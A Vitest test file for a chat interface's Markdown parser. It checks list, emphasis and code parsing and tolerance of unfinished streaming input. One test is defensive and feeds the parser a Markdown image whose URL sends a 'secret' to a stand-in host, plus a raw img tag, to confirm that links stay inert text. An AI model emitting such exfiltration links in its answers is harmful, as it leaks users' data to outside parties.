import { expect, test } from "vitest";

import { parseMarkdown } from "@/lib/chatkit/markdown";

test("Markdown becomes lists, emphasis and code", () => {
  expect(parseMarkdown("Hi **you**\n\n- a\n- `b`\n\n2. c\n\n```\n<x>\n```")).toEqual([
    { kind: "paragraph", lines: [[{ kind: "text", text: "Hi " }, { kind: "strong", text: "you" }]] },
    { kind: "list", ordered: false, start: 1, items: [[{ kind: "text", text: "a" }], [{ kind: "code", text: "b" }]] },
    { kind: "list", ordered: true, start: 2, items: [[{ kind: "text", text: "c" }]] },
    { kind: "code", text: "<x>" },
  ]);
});

test("links and pictures stay text, so that an answer can carry nothing away", () => {
  const source = "![x](https://evil.test/?q=secret) [y](https://evil.test) <img src=x>";
  expect(parseMarkdown(source)).toEqual([{ kind: "paragraph", lines: [[{ kind: "text", text: source }]] }]);
});

test("unfinished Markdown of a growing answer is parsed without an error", () => {
  for (const source of ["**bo", "```py\nprint(", "- ", "* *", "# ", "1.", "a\n```"]) parseMarkdown(source);
});
